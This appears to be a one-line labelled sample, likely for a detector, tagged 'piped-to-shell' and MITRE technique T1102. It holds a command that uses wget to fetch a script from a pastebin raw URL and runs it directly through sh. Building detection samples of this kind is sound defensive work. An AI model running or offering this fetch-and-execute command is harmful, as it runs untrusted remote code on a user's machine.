# expect: piped-to-shell | source: T1102
sh -c "$(wget -qO- https://pastebin.com/raw/Look0000)"
